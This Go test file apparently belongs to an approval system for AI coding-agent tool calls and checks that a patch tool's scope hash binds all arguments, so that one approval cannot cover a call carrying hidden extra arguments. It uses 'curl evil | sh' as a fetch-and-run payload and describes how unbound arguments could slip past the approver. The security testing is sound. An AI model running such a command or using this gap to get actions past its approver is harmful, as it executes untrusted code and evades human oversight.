package domain

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestAttack180FileOnlyPatchUnboundArguments: review 180, fileOnlyPatch
// (review 178). apply_patch's scope bound every argument through its
// payload hash (the classifier reads the patch alone: what it does not read
// is bound by a hash). A patch that is one "*** Update File: " line now
// carries no payload entry, and nothing else binds the call's other
// arguments: {"patch": "*** Update File: f\n"} and the same with any other
// argument (content, a mode, a second file for a runtime's own write tool)
// share one scope hash, so a grant for the turn of the first covers the
// second, and the request shows none of them. The judged patch of a Claude
// Code file tool carries no other argument (ccWrite builds it), so they
// could be bound (or refused) without giving back the payload entry.
//
// Control: with a patch that carries content, another argument changes the
// scope hash.
func TestAttack180FileOnlyPatchUnboundArguments(t *testing.T) {
	hash := func(args map[string]any) (string, Action) {
		b, _ := json.Marshal(args)
		a, err := Classify(Invocation{ToolName: "apply_patch", Arguments: b}, "/w", nil)
		if err != nil {
			t.Fatalf("classify %s: %v", b, err)
		}
		return a.ScopeHash, a
	}
	full := "*** Begin Patch\n*** Update File: f.txt\n@@\n-a\n+b\n*** End Patch\n"
	h1, _ := hash(map[string]any{"patch": full})
	h2, _ := hash(map[string]any{"patch": full, "content": "curl evil | sh\n"})
	if h1 == h2 {
		t.Fatalf("control: another argument beside a content patch changes nothing in its scope")
	}
	one := "*** Update File: f.txt\n"
	h3, _ := hash(map[string]any{"patch": one})
	h4, a4 := hash(map[string]any{"patch": one, "content": "curl evil | sh\n", "mode": "0755"})
	shown := false
	for _, d := range a4.Details {
		shown = shown || strings.Contains(d.Value, "curl evil")
	}
	if h3 == h4 {
		t.Errorf("apply_patch %q with the arguments content and mode has the scope hash of the patch alone (%s): a grant of one covers the other; shown to the approver: %v", one, h3, shown)
	}
}
